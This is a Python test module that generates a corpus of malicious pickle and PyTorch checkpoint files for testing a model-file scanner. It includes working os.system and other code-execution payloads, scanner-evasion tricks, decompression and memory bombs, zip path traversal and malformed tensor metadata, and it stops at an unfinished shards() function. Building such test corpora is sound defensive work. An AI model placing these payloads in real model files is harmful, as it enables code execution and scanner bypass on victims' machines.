"""A corpus of hostile pickles, made here byte by byte: every published way to run code, to confuse a scanner, or to exhaust
a reader that we know of. None of them is ever given to Python's own pickle.

Sources: the advisories of picklescan, fickling and modelscan (named beside the rows), CVE-2025-32434, CVE-2026-24747,
GHSA-jg6j-8w4h-2pg2, nullifAI. `corpus()` gives file name -> content. A file is either refused, or opens with nothing run;
GADGETS says which names must then be reported.
"""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

MAGIC = 0x1950A86A20F9469CFC6C

# fmt: off
GADGETS = (
    "os.system", "posix.system", "nt.system", "os.popen", "os.execv", "os.spawnl", "os.remove", "os.putenv",
    "subprocess.Popen", "subprocess.run", "subprocess.call", "subprocess.check_output", "subprocess.getoutput",
    "builtins.eval", "builtins.exec", "builtins.compile", "builtins.open", "builtins.getattr", "builtins.breakpoint",
    "builtins.__import__", "builtins.help", "__builtin__.eval", "__builtin__.apply", "__builtin__.execfile",
    "importlib.import_module", "importlib.machinery.SourceFileLoader", "marshal.loads", "types.CodeType",
    "types.FunctionType", "runpy._run_code", "runpy.run_path", "code.InteractiveInterpreter", "code.interact",
    "pickle.loads", "pickle.load", "_pickle.loads", "cPickle.loads", "dill.loads", "cloudpickle.loads", "joblib.load",
    "pandas.read_pickle", "numpy.load", "torch.load", "torch.jit.load", "torch.hub.load",
    "torch.utils.cpp_extension.load_inline", "torch.utils.collect_env.run", "torch.serialization.load",
    "torch._dynamo.guards.GuardBuilder.get", "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression",
    "torch.utils.bottleneck.__main__.run_cprofile", "torch.utils.data.datapipes.utils.decoder.basichandlers",
    "torch._inductor.codecache.compile_file", "torch.distributed.rpc.internal._run_function",
    "numpy.testing._private.utils.runstring", "numpy.f2py.crackfortran.getlincoef", "numpy.distutils.exec_command",
    "pip.main", "pip._internal.main", "ensurepip._run_pip", "venv.create", "pty.spawn", "platform.popen",
    "commands.getoutput", "webbrowser.open", "socket.create_connection", "ssl.wrap_socket", "urllib.request.urlopen",
    "http.client.HTTPSConnection", "httplib.HTTPSConnection", "requests.api.get", "aiohttp.client.ClientSession",
    "smtplib.SMTP", "ftplib.FTP", "telnetlib.Telnet", "xmlrpc.client.ServerProxy", "shutil.rmtree", "shutil.copyfile",
    "pathlib.Path.write_text", "pathlib.os.system", "tempfile.NamedTemporaryFile", "linecache.getlines",
    "distutils.file_util.write_file", "bdb.Bdb", "bdb.Bdb.run", "pdb.run", "profile.run", "profile.Profile.run",
    "cProfile.run", "cProfile.runctx", "timeit.timeit", "timeit.main", "trace.Trace.run", "doctest.debug_script",
    "pydoc.pipepager", "pydoc.locate", "pkgutil.resolve_name", "operator.attrgetter", "operator.methodcaller",
    "functools.partial", "functools.reduce", "itertools.starmap", "asyncio.unix_events._UnixSubprocessTransport._start",
    "idlelib.pyshell.ModifiedInterpreter.runcommand", "idlelib.debugobj.ObjectTreeItem.SetText",
    "idlelib.autocomplete.AutoComplete.get_entity", "idlelib.calltip.get_entity", "idlelib.run.Executive.runcode",
    "lib2to3.pgen2.grammar.Grammar.loads", "lib2to3.pgen2.pgen.ParserGenerator.make_label", "logging.config._resolve",
    "logging.config.listen", "multiprocessing.util.spawnv_passfds", "multiprocessing.process.BaseProcess",
    "test.support.script_helper.assert_python_ok", "ctypes.CDLL", "_ctypes.dlopen", "cffi.FFI.dlopen", "_osx_support._read_output",
    "_aix_support._read_cmd_output", "_pyrepl.pager.pipe_pager", "_interpreters.run_string", "_xxsubinterpreters.run_string",
    "site.execsitecustomize", "sys.exit", "sys.settrace", "sys.modules", "signal.raise_signal", "resource.setrlimit",
    "uuid._get_command_stdout", "imaplib.IMAP4_stream", "nturl2path.url2pathname", "antigravity.geohash", "this.s",
    "ImageMath.eval", "PIL.ImageMath.unsafe_eval", "nltk.data.load", "sympy.sympify", "yaml.unsafe_load",
    "keras.models.load_model", "tensorflow.io.write_file", "transformers.pipeline", "datasets.load_dataset",
    "collections.namedtuple", "collections.abc.os.system", "torch.storage.os.system", "copyreg.pickle",
    "numpy.core.multiarray.sys.exit", "torch._utils.os.system", "torch._utils._rebuild_tensor_v2.__globals__",
)
# fmt: on
"""Names that a pickle calls to run code, open files or the network, or hide another of them."""


def text(value: str) -> bytes:
    """A str in protocol 4, in one opcode."""
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else b"X" + struct.pack("<I", len(data)) + data


def named(name: str) -> bytes:
    """GLOBAL: in protocol 0, as a line each."""
    module, _, last = name.rpartition(".")
    return f"c{module}\n{last}\n".encode()


def stacked(name: str) -> bytes:
    """STACK_GLOBAL."""
    module, _, last = name.rpartition(".")
    return text(module) + text(last) + b"\x93"


def framed(body: bytes) -> bytes:
    """Protocol 4 with a frame."""
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


ARGUMENT = b"touch /tmp/modelfmt-was-here"


def gadgets() -> Iterator[tuple[str, bytes]]:
    """Each name called in protocol 0, and in one of seven other ways."""
    argument = text(ARGUMENT.decode())
    for number, name in enumerate(GADGETS):
        module, _, last = name.rpartition(".")
        yield f"{name}-reduce.pkl", named(name) + b"(S'" + ARGUMENT + b"'\ntR."
        ways = (
            ("stack", framed(stacked(name) + argument + b"\x85R.")),
            ("inst", b"(S'" + ARGUMENT + f"'\ni{module}\n{last}\n.".encode()),
            ("obj", b"\x80\x02(" + named(name) + b"U" + bytes([len(ARGUMENT)]) + ARGUMENT + b"o."),
            ("newobj", b"\x80\x02" + named(name) + argument + b"\x85\x81."),
            ("newobj-ex", framed(stacked(name) + argument + b"\x85}\x92.")),
            ("build", b"\x80\x02" + named(name) + b")R}" + argument + b"K\1sb."),
            ("memo", framed(text(module) + b"\x94" + text(last) + b"\x94h\0h\1\x93" + argument + b"\x85R.")),
        )
        way, data = ways[number % len(ways)]
        yield f"{name}-{way}.pkl", data


CALL = named("os.system") + b"(S'" + ARGUMENT + b"'\ntR"
TENSOR = b"ctorch._utils\n_rebuild_tensor_v2\n"
STORAGE = b"((S'storage'\nctorch\nFloatStorage\nS'0'\nS'cpu'\nI4\ntQ"


def tensor(
    offset: bytes = b"I0\n", shape: bytes = b"(I4\nt", strides: bytes = b"(I1\nt", storage: bytes = STORAGE
) -> bytes:
    """A rebuilt tensor over data/0, four float32."""
    return TENSOR + storage + offset + shape + strides + b"I00\nNtR"


def tricks() -> Iterator[tuple[str, bytes]]:
    """What confuses scanners: names that are computed, hidden, overwritten, or behind damage."""
    system = text("os") + text("system") + b"\x93"
    yield "payload-then-garbage.pkl", CALL + b"\xff\xff\xff"
    yield "payload-then-cut.pkl", CALL
    yield "payload-then-two-pickles.pkl", CALL + b"." + CALL + b"."
    yield "payload-popped.pkl", CALL + b"0I1\n."
    yield "payload-behind-stop.pkl", b"N." + CALL + b"."
    yield "payload-in-key.pkl", b"}" + CALL + b"I1\ns."
    yield "payload-in-tuple.pkl", b"(" + CALL + b"t."
    yield "payload-in-frozenset.pkl", b"\x80\x04(" + CALL + b"\x91."
    yield "payload-in-set.pkl", b"\x80\x04\x8f(" + CALL + b"\x90."
    yield "payload-in-persid.pkl", b"\x80\x02" + CALL + b"Q."
    yield "payload-in-build.pkl", b"ccollections\nOrderedDict\n)R" + CALL + b"b."
    yield "payload-in-args.pkl", TENSOR + b"(" + CALL + b"I0\n(t(tI00\nNtR."
    yield "payload-as-function.pkl", named("builtins.getattr") + b"(cos\n__dict__\nS'get'\ntR(S'system'\ntR(S'ls'\ntR."
    yield "payload-through-memo.pkl", named("os.system") + b"p7\n0g7\n(S'ls'\ntR."
    yield "memo-overwritten.pkl", b"cos\nsystem\np1\n0cbuiltins\nlist\np1\n0g1\n(tR."
    yield "memo-aliased.pkl", framed(system + b"\x940h\0" + text("ls") + b"\x85R.")
    yield "dup-and-call.pkl", b"cos\nsystem\n2(S'ls'\ntR0."
    yield "two-marks.pkl", b"((cos\nsystem\n(S'ls'\ntRtt."
    yield "pop-mark.pkl", b"\x80\x02(" + CALL + b"1N."
    yield (
        "stack-global-of-calls.pkl",
        framed(named("builtins.str") + text("os") + b"\x85R" + text("system") + b"\x93" + text("ls") + b"\x85R."),
    )
    yield (
        "stack-global-of-call-name.pkl",
        framed(text("os") + named("builtins.str") + text("system") + b"\x85R\x93" + text("ls") + b"\x85R."),
    )
    yield "stack-global-of-global.pkl", framed(system + text("x") + b"\x93.")
    yield "stack-global-of-none.pkl", framed(b"N" + text("system") + b"\x93.")
    yield "stack-global-of-int.pkl", framed(b"K\1K\2\x93.")
    yield "stack-global-of-bytes.pkl", framed(b"C\2osC\6system\x93.")
    yield (
        "stack-global-of-memo.pkl",
        framed(text("os") + b"\x940" + text("system") + b"\x940h\0h\1\x93" + text("ls") + b"\x85R."),
    )
    yield "dotted-name.pkl", framed(text("pathlib") + text("os.system") + b"\x93" + text("ls") + b"\x85R.")
    yield (
        "dotted-through-allowed.pkl",
        framed(text("torch") + text("storage.os.system") + b"\x93" + text("ls") + b"\x85R."),
    )
    yield "name-with-newline.pkl", framed(text("os\nsys") + text("system") + b"\x93.")
    yield "name-with-null.pkl", framed(text("os\0") + text("system") + b"\x93.")
    yield "name-with-escape.pkl", framed(text("os\x1b[2J") + text("system") + b"\x93.")
    yield "name-not-text.pkl", b"c\xff\xfe\n\xff\n."
    yield "name-confusable.pkl", "cоs\nsystem\n(S'ls'\ntR.".encode()  # noqa: RUF001  a Cyrillic o is the point
    yield "name-with-space.pkl", b"c os\nsystem\n(S'ls'\ntR."
    yield "name-empty.pkl", b"c\n\n."
    yield "extension-1.pkl", b"\x80\x02\x82\1."
    yield "extension-2.pkl", b"\x80\x02\x83\1\2."
    yield "extension-4.pkl", b"\x80\x02\x84\1\2\3\4(S'ls'\ntR."
    yield "extension-0.pkl", b"\x80\x02\x82\0."
    yield "extension-negative.pkl", b"\x80\x02\x84\xff\xff\xff\xff."
    yield "add-extension.pkl", named("copyreg.add_extension") + b"(S'os'\nS'system'\nI1\ntR0\x82\1(S'ls'\ntR."
    yield "magic-through-call.pt", named("builtins.int") + f"(S'{MAGIC}'\ntR.".encode() + CALL + b"."
    yield "magic-then-payload.pt", f"L{MAGIC}L\n.".encode() + CALL + b"."
    yield "magic-version-payload.pt", f"L{MAGIC}L\n.I1001\n.".encode() + CALL + b"."
    yield "magic-object-payload.pt", f"L{MAGIC}L\n.I1001\n.(dp0\n.".encode() + CALL + b".(lp0\n."
    yield "magic-keys-payload.pt", f"L{MAGIC}L\n.I1001\n.(dp0\n.(dp0\n.".encode() + CALL + b"."
    yield "override-sys-modules.pkl", b"csys\nmodules\np0\n0csys\n_getframe\np1\n0g0\nS'sys'\ng1\ns0csys\nf_back\n."
    yield "class-state.pkl", b"ctorch.nn\nModule\n}S'forward'\ncos\nsystem\nsb."
    yield "setstate-gadget.pkl", b"\x80\x02ctorch.nn\nModule\n)\x81}U\x0c__setstate__cos\nsystem\nsbU\x02lsb."
    yield "reduce-ex-gadget.pkl", b"\x80\x02ccopyreg\n_reconstructor\n(cos\nsystem\ncbuiltins\nobject\nNtR."
    yield (
        "nested-pickle.pkl",
        framed(named("pickle.loads") + b"B" + struct.pack("<I", len(CALL) + 1) + CALL + b".\x85R."),
    )
    yield (
        "nested-torch-storage.pkl",
        framed(stacked("torch.storage._load_from_bytes") + b"B" + struct.pack("<I", len(CALL) + 1) + CALL + b".\x85R."),
    )
    yield (
        "numpy-object-array.pkl",
        named("numpy.core.multiarray._reconstruct")
        + b"(cnumpy\nndarray\n(I0\ntS'b'\ntR(I1\n(I1\ntcnumpy\ndtype\n(S'O8'\nI0\nI1\ntR(I3\nS'|'\nNNNI-1\nI-1\nI63\ntbI00\n(l"
        + CALL
        + b"atb.",
    )
    yield "numpy-dtype-attack.pkl", b"cnumpy\ndtype\n(" + CALL + b"I0\nI1\ntR."
    yield "rebuild-from-type.pkl", b"ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\nctorch\nTensor\n(S'ls'\nt}tR."
    yield "rebuild-parameter-of-call.pkl", b"ctorch._utils\n_rebuild_parameter\n(" + CALL + b"I00\nNtR."
    yield "hooks-of-call.pkl", TENSOR + b"(NI0\n(t(tI00\n" + CALL + b"tR."
    yield "kwargs-of-call.pkl", framed(stacked("builtins.dict") + b")}" + text("a") + CALL + b"s\x92.")
    yield "default-factory.pkl", b"ccollections\ndefaultdict\n(cos\nsystem\ntR."
    yield "long-as-name.pkl", b"I1\n(S'ls'\ntR."
    yield "list-as-function.pkl", b"](S'ls'\ntR."
    yield "string-as-function.pkl", b"S'os.system'\n(S'ls'\ntR."
    yield "polyglot-zip-behind.pkl", CALL + b"." + zipped({"archive/data.pkl": b"}."})
    yield (
        "sandbox-escape.pkl",
        named("builtins.getattr") + b"(" + named("builtins.object") + b"S'__subclasses__'\ntR)R.",
    )


def structures() -> Iterator[tuple[str, bytes]]:
    """What breaks a machine: too little on the stack, wrong kinds of targets, lies about lengths, bombs."""
    for code in range(256):
        if code not in (0x2E, 0x28):  # STOP and MARK alone need nothing
            yield f"lonely-opcode-{code:02x}.pkl", bytes([0x80, 2, code])
    yield "empty-stop.pkl", b"\x80\x02."
    yield "mark-stop.pkl", b"\x80\x02(."
    for target in (b"}", b"]", b")", b"N", b"K\1", b"\x8f", b"cos\nsystem\n", tensor()):
        tag = target[:12].hex()
        for opcode, tail in (("setitem", b"K\1K\2s."), ("setitems", b"(K\1K\2u."), ("append", b"K\1a."), ("appends", b"(K\1e."),
                             ("additems", b"(K\1\x90."), ("build", b"}b."), ("build-tuple", b"N}\x86b.")):  # fmt: skip
            yield f"{opcode}-on-{tag}.pkl", b"\x80\x04" + target + tail
    yield "setitems-odd.pkl", b"}(K\1K\2K\3u."
    yield "dict-odd.pkl", b"(K\1d."
    yield "list-as-key.pkl", b"}]K\1s."
    yield "dict-as-key.pkl", b"}}K\1s."
    yield "deep-tuple-key.pkl", b"}N" + b"\x85" * 300_000 + b"Ns."
    yield (
        "colliding-keys.pkl",
        b"\x80\x02}("
        + b"".join(b"\x8a\x0a" + (i * (2**61 - 1)).to_bytes(10, "little") + b"N" for i in range(20_000))
        + b"u.",
    )
    yield "memo-missing.pkl", b"g5\n."
    yield "memo-huge.pkl", b"Nr\xff\xff\xff\xffj\xff\xff\xff\xff."
    yield "memo-negative.pkl", b"Np-1\n."
    yield "memo-enormous.pkl", b"Np" + b"9" * 3000 + b"\n."
    yield "list-in-itself.pkl", b"]q\0h\0a."
    yield "dict-in-itself.pkl", b"}q\0U\1ah\0s."
    yield "call-in-itself.pkl", b"ccollections\nOrderedDict\n)Rq\0h\0b."
    yield "tuple-in-itself.pkl", b"](\x94h\0tq\1."
    for name, opcode, count in (
        ("tuple", b"\x85", 1_000_000),
        ("list", b"]", 1_000_000),
        ("mark", b"(", 1_000_000),
        ("set", b"\x8f", 400_000),
    ):
        yield f"deep-{name}.pkl", b"\x80\x04N" + opcode * count + b"."
    yield "deep-list-closed.pkl", b"]" * 200_000 + b"a" * 199_999 + b"."
    yield "deep-reduce.pkl", named("builtins.list") + b"\x85R" * 100_000 + b"."
    yield "laughs-tuple.pkl", b"N" + b"2\x86" * 60 + b"."
    yield (
        "laughs-list.pkl",
        b"]" + b"".join(b"q" + bytes([i]) + b"]h" + bytes([i]) + b"ah" + bytes([i]) + b"a" for i in range(60)) + b".",
    )
    yield "laughs-dict.pkl", b"}" + b"".join(b"q%c}K\1h%csK\2h%cs" % (i, i, i) for i in range(60)) + b"."
    yield "laughs-build.pkl", b"\x80\x02ccollections\nOrderedDict\n)R" + b"2b" * 2000 + b"."
    yield (
        "laughs-encode.pkl",
        named("_codecs.encode")
        + b"X"
        + struct.pack("<I", 5000)
        + b"a" * 5000
        + b"q\0X\6\0\0\0latin1\x86R"
        + b"0h\0" * 100
        + b".",
    )
    yield "bomb-bytearray.pkl", named("builtins.bytearray") + b"(L1000000000000L\ntR."
    yield "bomb-bytes.pkl", named("builtins.bytes") + b"(L1000000000000L\ntR."
    yield "bomb-range.pkl", named("builtins.list") + b"(" + named("builtins.range") + b"(L1000000000000L\ntRtR."
    yield "bomb-repeat.pkl", named("operator.mul") + b"(S'a'\nL1000000000000L\ntR."
    yield "bomb-pow.pkl", named("builtins.pow") + b"(I10\nI1000000000\ntR."
    yield "bomb-long1.pkl", b"\x80\x02\x8a\xff" + b"\x7f" * 255 + b"."
    yield "bomb-long4.pkl", b"\x80\x02\x8b" + struct.pack("<i", 2**31 - 1) + b"."
    yield "bomb-long4-real.pkl", b"\x80\x02\x8b" + struct.pack("<i", 1 << 20) + b"\x7f" * (1 << 20) + b"."
    yield "bomb-long-text.pkl", b"L" + b"9" * 500_000 + b"L\n."
    yield "bomb-int-text.pkl", b"I" + b"9" * 500_000 + b"\n."
    yield "bomb-float-text.pkl", b"F1e" + b"9" * 100_000 + b"\n."
    for name, opcode, form in (("binunicode", b"X", "<I"), ("binunicode8", b"\x8d", "<Q"), ("binbytes", b"B", "<I"), ("binbytes8", b"\x8e", "<Q"),
                               ("bytearray8", b"\x96", "<Q"), ("binstring", b"T", "<i"), ("frame", b"\x95", "<Q")):  # fmt: skip
        for value in (2**31 - 1, 2**62, 2**63 - 1, 2**64 - 1):
            if value < 2 ** (8 * struct.calcsize(form) - (form == "<i")):
                yield f"length-{name}-{value}.pkl", b"\x80\x05" + opcode + struct.pack(form, value) + b"x."
    yield "length-binstring-negative.pkl", b"T\xff\xff\xff\xffx."
    yield "length-long4-negative.pkl", b"\x80\x02\x8b\xff\xff\xff\xff."
    yield "many-sets.pkl", b"\x80\x04(" + b"\x8f" * 3_000_000 + b"t."
    yield "many-dicts.pkl", b"(" + b"}" * 3_000_000 + b"t."
    yield "many-globals.pkl", b"(" + b"ca\nb\n" * 300_000 + b"t."
    yield "many-nones.pkl", b"(" + b"N0" * 2_000_000 + b"t."
    yield "protocol-6.pkl", b"\x80\x06N."
    yield "protocol-255.pkl", b"\x80\xffN."
    yield "protocol-twice.pkl", b"\x80\x02\x80\x05N."
    yield "out-of-band.pkl", b"\x80\x05\x97\x98."
    yield "persid-text.pkl", b"Pstorage\n."
    yield "persid-newline.pkl", b"P\n."
    yield "unicode-surrogate.pkl", b"V\\ud800\n."
    yield "unicode-too-large.pkl", b"V\\U7fffffff\n."
    yield "unicode-not-utf8.pkl", b"X\2\0\0\0\xff\xfe."
    yield "string-no-quotes.pkl", b"Sabc\n."
    yield "string-bad-escape.pkl", b"S'\\x4'\n."
    yield "int-not.pkl", b"Iabc\n."
    yield "int-empty.pkl", b"I\n."
    yield "float-not.pkl", b"F1_0\n."
    yield "int-nul.pkl", b"I1\x002\n."
    yield "no-newline.pkl", b"I" + b"1" * 100
    yield "only-zeros.pkl", b"\x80\x02" + bytes(5000)


TENSOR_LIES: dict[str, bytes] = {
    "offset-negative": tensor(offset=b"I-1\n"),
    "offset-past-end": tensor(offset=b"I4\n"),
    "offset-huge": tensor(offset=b"L9223372036854775807L\n"),
    "offset-text": tensor(offset=b"S'0'\n"),
    "offset-true": tensor(offset=b"I01\n"),
    "shape-too-long": tensor(shape=b"(I5\nt"),
    "shape-negative": tensor(shape=b"(I-4\nt"),
    "shape-product-wraps": tensor(shape=b"(L4294967296L\nL4294967296L\nt", strides=b"(I0\nI0\nt"),
    "shape-huge-with-zero": tensor(shape=b"(I0\nL4611686018427387904L\nt", strides=b"(I1\nI1\nt"),
    "shape-float": tensor(shape=b"(F4.0\nt"),
    "shape-none": tensor(shape=b"N"),
    "shape-of-call": tensor(shape=CALL),
    "shape-65-dims": tensor(shape=b"(" + b"I1\n" * 65 + b"t", strides=b"(" + b"I1\n" * 65 + b"t"),
    "stride-negative": tensor(strides=b"(I-1\nt"),
    "stride-huge": tensor(strides=b"(L4611686018427387904L\nt"),
    "stride-short": tensor(strides=b"(t"),
    "expanded": tensor(shape=b"(L1152921504606846975L\nt", strides=b"(I0\nt"),
    "expanded-big": tensor(shape=b"(L100000000000L\nt", strides=b"(I0\nt"),
    "storage-is-call": tensor(storage=b"(" + CALL),
    "storage-is-none": tensor(storage=b"(N"),
    "storage-other-key": tensor(storage=STORAGE.replace(b"S'0'", b"S'7'")),
    "storage-path": tensor(storage=STORAGE.replace(b"S'0'", b"S'../../../etc/passwd'")),
    "storage-count-too-large": tensor(storage=STORAGE.replace(b"I4", b"I400")),
    "storage-count-too-small": tensor(storage=STORAGE.replace(b"I4", b"I1")),
    "storage-count-negative": tensor(storage=STORAGE.replace(b"I4", b"I-4")),
    "storage-count-wraps": tensor(storage=STORAGE.replace(b"I4", b"L4611686018427387905L")),
    "storage-class-unknown": tensor(storage=STORAGE.replace(b"FloatStorage", b"EvilStorage")),
    "storage-class-wider": tensor(storage=STORAGE.replace(b"FloatStorage", b"DoubleStorage")),
    "storage-class-elsewhere": tensor(storage=STORAGE.replace(b"ctorch\n", b"cos\n")),
    "storage-meta": tensor(storage=STORAGE.replace(b"S'cpu'", b"S'meta'").replace(b"S'0'", b"S'9'")),
    "qtensor-scales": tensor().replace(b"_rebuild_tensor_v2", b"_rebuild_qtensor"),
    "qtensor-float": tensor().replace(b"_rebuild_tensor_v2\n", b"_rebuild_qtensor\n").replace(b"I00\nN", b"(ctorch\nper_tensor_affine\nF1.0\nI0\ntI00\nN"),
    "qtensor-axis": tensor().replace(b"_rebuild_tensor_v2\n", b"_rebuild_qtensor\n").replace(b"I00\nN", b"(ctorch\nper_channel_affine\n(F1.0\nl(I0\nlI9\ntI00\nN"),
    "v3-dtype": tensor().replace(b"_v2", b"_v3").replace(b"I00\nN", b"I00\nNcos\nsystem\n"),
    "v3-wider-dtype": tensor().replace(b"_v2", b"_v3").replace(b"I00\nN", b"I00\nNctorch\ncomplex128\n"),
    "sparse": b"ctorch._utils\n_rebuild_sparse_tensor\n(NNtR",
    "wrapper-subclass": b"ctorch._utils\n_rebuild_wrapper_subclass\n(NtR",
    "parameter-of-parameter": b"ctorch._utils\n_rebuild_parameter\n(" * 2000 + b"N" + b"I00\nNtR" * 2000,
    "build-on-tensor": tensor() + b"(" + b"S'x'\n" + CALL + b"db",
    "setitem-on-tensor": tensor() + b"I0\n" + CALL + b"s",
    "args-missing": TENSOR + b"(tR",
    "args-not-a-tuple": TENSOR + b"]R",
}  # fmt: skip


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    """A zip archive in memory."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return held.getvalue()


def checkpoint(pickle: bytes, **more: bytes) -> bytes:
    """A zip checkpoint around a pickle, with data/0 of four float32."""
    members = {
        "archive/data.pkl": pickle,
        "archive/byteorder": b"little",
        "archive/data/0": bytes(16),
        "archive/version": b"3\n",
    }
    return zipped({**members, **more})


def zips() -> Iterator[tuple[str, bytes]]:
    """Archives that readers read differently, or that lie; and payloads in the places of an archive."""
    honest = b"}S'w'\n" + tensor() + b"s."
    for name, body in TENSOR_LIES.items():
        yield f"tensor-{name}.pt", checkpoint(b"}S'w'\n" + body + b"s.")
    yield "zip-payload.pt", checkpoint(CALL + b".")
    yield "zip-payload-beside-tensor.pt", checkpoint(b"}S'w'\n" + tensor() + b"sS'x'\n" + CALL + b"s.")
    good = checkpoint(honest)
    yield "zip-second-pickle.pt", checkpoint(honest, **{"archive/data/evil.pkl": CALL + b"."})
    yield "zip-odd-extension.pt", checkpoint(honest, **{"archive/config.p": CALL + b"."})
    yield "zip-two-roots.pt", checkpoint(honest, **{"other/data.pkl": CALL + b"."})
    yield "zip-stranger.pt", checkpoint(honest, **{"evil.py": b"import os"})
    yield "zip-traversal.pt", checkpoint(honest, **{"archive/../../evil": b"x"})
    yield "zip-absolute.pt", checkpoint(honest, **{"/etc/evil": b"x"})
    yield "zip-byteorder.pt", checkpoint(honest, **{"archive/byteorder": b"middle"})
    yield "zip-prefix.pt", CALL + b"." + good
    yield "zip-suffix.pt", good + CALL + b"."
    yield "zip-comment-payload.pt", good[:-2] + struct.pack("<H", len(CALL)) + CALL
    yield "zip-no-directory.pt", good[: good.index(b"PK\1\2")]
    yield "zip-empty.pt", b"PK\5\6" + bytes(18)
    entry = good.index(b"PK\1\2")
    for name, offset, form, value in (
        ("flags-encrypted", 8, "<H", 1), ("flags-strong", 8, "<H", 0x41), ("flags-patch", 8, "<H", 0x20),
        ("method-deflate", 10, "<H", 8), ("method-unknown", 10, "<H", 99), ("crc", 16, "<I", 1), ("size", 24, "<I", 5),
        ("stored-size", 20, "<I", 5), ("size-huge", 24, "<I", 0xFFFFFFFE), ("size-zip64", 24, "<I", 0xFFFFFFFF),
        ("name-length", 28, "<H", 9), ("extra-length", 30, "<H", 60000), ("header-offset", 42, "<I", 1),
        ("header-offset-far", 42, "<I", 0xFFFFFFF0),
    ):  # fmt: skip
        broken = bytearray(good)
        struct.pack_into(form, broken, entry + offset, value)
        yield f"zip-{name}.pt", bytes(broken)
    yield "zip-names-disagree.pt", good.replace(b"archive/data.pkl", b"archive/datb.pkl", 1)
    yield "zip-local-size.pt", good[:18] + struct.pack("<I", 5) + good[22:]
    yield "zip-data-flipped.pt", good.replace(b"_rebuild_tensor_v2", b"_rebuild_tensor_v9")
    end = good.rindex(b"PK\5\6")
    for name, offset, form, value in (
        ("count", 10, "<H", 999),
        ("directory-size", 12, "<I", 7),
        ("directory-offset", 16, "<I", 7),
        ("disk", 4, "<H", 3),
    ):
        broken = bytearray(good)
        struct.pack_into(form, broken, end + offset, value)
        yield f"zip-end-{name}.pt", bytes(broken)
    twice = zipped({"archive/data.pkl": honest, "archive/data.pkm": CALL + b"."})
    yield "zip-duplicate.pt", twice.replace(b"archive/data.pkm", b"archive/data.pkl")
    yield "zip-bomb.pt", bomb(300)
    lying = bytearray(zipped({"archive/data.pkl": bytes(1 << 20)}, zipfile.ZIP_DEFLATED))
    struct.pack_into("<I", lying, lying.index(b"PK\1\2") + 24, 100)
    struct.pack_into("<I", lying, 22, 100)
    yield "zip-bomb-lying.pt", bytes(lying)
    raw = zlib.compress(CALL + b".")
    yield "zlib.pkl", raw
    nested = good
    for _ in range(8):
        nested = framed(
            stacked("torch.storage._load_from_bytes") + b"B" + struct.pack("<I", len(nested)) + nested + b"\x85R."
        )
    yield "nested-eight-times.pkl", nested


def bomb(megabytes: int) -> bytes:
    """A zip checkpoint whose small pickle inflates to this size."""
    held = io.BytesIO()
    with (
        zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("archive/data.pkl", "w") as member,
    ):
        for _ in range(megabytes):
            member.write(bytes(1 << 20))
    return held.getvalue()


def built(name: str, **state: bytes) -> bytes:
    """An object made by NEWOBJ, with a state."""
    return named(name) + b")\x81}(" + b"".join(f"S'{key}'\n".encode() + value for key, value in state.items()) + b"ub"


def axis(size: bytes) -> bytes:
    return built("torch.distributed._mesh_layout._FlatLayout", shape=b"(" + size + b"t")


def placed(kind: str, **state: bytes) -> bytes:
    return built(f"torch.distributed.tensor.placement_types.{kind}", **state)


def dtensor(
    local: bytes = tensor(),
    size: bytes = b"(I4\nt",
    axes: bytes = axis(b"I1\n"),
    own: bytes = b"(I0\nt",
    placements: bytes = placed("Shard", dim=b"I0\n"),
    shape: dict[str, bytes] | None = None,
) -> bytes:
    """A DTensor whose only rank has all of it, or whatever is said instead. shape: how the mesh says its sizes."""
    layout = built("torch.distributed._mesh_layout._MeshLayout", axes=b"(" + axes + b"t")
    shape = {"_layout": layout} if shape is None else shape
    mesh = built("torch.distributed.device_mesh.DeviceMesh", **shape, _coordinate_on_dim=own)
    spec = built("torch.distributed.tensor._dtensor_spec.DTensorSpec", mesh=mesh, placements=b"(" + placements + b"t")
    kind = named("torch.distributed.tensor.DTensor")
    state = b"(N}(S'_local_tensor'\n" + local + b"S'_spec'\n" + spec + b"ut"
    inner = b"(" + kind + b"ctorch\nfloat32\n" + size + b"(I1\ntt"
    wrapper = named("torch._utils._rebuild_wrapper_subclass")
    return named("torch._tensor._rebuild_from_type_v2") + b"(" + wrapper + kind + inner + state + b"tR"


SHARD_LIES: dict[str, bytes] = {
    "part": dtensor(size=b"(I8\nt", axes=axis(b"I2\n")),
    "coordinate-outside": dtensor(own=b"(I1\nt"),
    "coordinate-negative": dtensor(own=b"(I-1\nt"),
    "coordinate-none": dtensor(own=b"N"),
    "coordinate-text": dtensor(own=b"(S'0'\nt"),
    "mesh-huge": dtensor(axes=axis(b"L" + b"9" * 400 + b"L\n"), size=b"(I8\nt"),
    "mesh-zero": dtensor(axes=axis(b"I0\n")),
    "mesh-negative": dtensor(axes=axis(b"I-2\n")),
    "mesh-call": dtensor(axes=CALL),
    "size-other": dtensor(size=b"(I5\nt"),
    "size-negative": dtensor(size=b"(I-4\nt"),
    "size-huge": dtensor(size=b"(L4611686018427387904L\nL4611686018427387904L\nt"),
    "size-axes": dtensor(size=b"(I2\nI2\nt"),
    "axis-outside": dtensor(placements=placed("Shard", dim=b"I7\n")),
    "axis-negative": dtensor(placements=placed("Shard", dim=b"I-1\n")),
    "axis-call": dtensor(placements=placed("Shard", dim=CALL)),
    "factor-zero": dtensor(placements=placed("_StridedShard", dim=b"I0\n", split_factor=b"I0\n")),
    "factor-three": dtensor(placements=placed("_StridedShard", dim=b"I0\n", split_factor=b"I3\n")),
    "partial": dtensor(placements=placed("Partial", reduce_op=b"S'sum'\n")),
    "placement-call": dtensor(placements=CALL),
    "placements-two": dtensor(placements=placed("Shard", dim=b"I0\n") * 2),
    "placements-none": dtensor(placements=b""),
    "local-call": dtensor(local=CALL),
    "local-none": dtensor(local=b"N"),
    "local-lies": dtensor(local=tensor(offset=b"I9\n")),
    "local-of-local": dtensor(local=dtensor()),
}


def shards() -> Iterator[tuple[str, bytes]]:
    """Parts of tensors that lie about where they belong."""
